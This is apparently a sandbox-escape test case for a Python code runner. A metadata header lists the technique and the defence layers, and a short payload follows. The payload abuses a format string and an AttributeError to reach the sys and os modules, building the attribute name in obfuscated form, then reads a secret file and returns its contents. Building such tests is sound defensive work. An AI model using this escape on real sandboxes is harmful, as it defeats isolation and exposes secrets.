# class: format strings
# technique: a literal template that names what it reads
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import operator
try:
    "{0.__init__.__globals__[sys].nothing}".format(quit)
except AttributeError as error:
    g = {"sys": operator.attrgetter(host["mark"][:0].join(["o", "bj"]))(error)}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
